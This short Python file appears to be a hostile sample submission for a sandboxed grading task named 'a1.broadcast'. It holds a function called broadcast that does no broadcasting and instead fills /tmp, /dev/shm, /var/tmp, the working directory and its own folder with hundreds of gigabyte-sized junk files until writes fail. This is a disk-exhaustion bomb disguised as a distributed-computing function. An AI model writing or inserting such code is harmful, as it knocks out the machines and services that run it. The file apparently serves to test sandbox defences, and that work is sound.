# ruff: noqa
"""Writes until nothing more can be written, everywhere it may."""

TASK = "a1.broadcast"
SEEN = "open|/tmp"
NEEDS = "sandbox"

# BEGIN SUBMISSION
import os


def broadcast(tensor, src, group=None):
    chunk = b"x" * (1 << 24)
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.dirname(__file__)):
        for number in range(200):
            try:
                with open(f"{folder}/tinyparallel-bomb-{number}", "wb") as file:
                    for _ in range(64):
                        file.write(chunk)
            except OSError:
                break
